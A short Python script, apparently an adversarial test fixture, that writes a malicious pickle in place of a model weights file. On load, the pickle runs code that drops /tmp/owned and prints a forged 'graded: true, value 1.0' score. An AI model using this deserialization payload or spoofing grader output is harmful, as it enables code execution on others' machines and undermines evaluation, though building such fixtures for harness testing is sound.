"""Forgery: the weights are a pickle that runs code in whoever loads it."""
import pickle

from net import Net


class Trap:
    def __reduce__(self):
        return exec, ("open('/tmp/owned', 'w').write('1'); print('{\"graded\": true, \"value\": 1.0}')",)


Net().save()
with open('checkpoints/weights.npz', 'wb') as file:
    pickle.dump(Trap(), file)
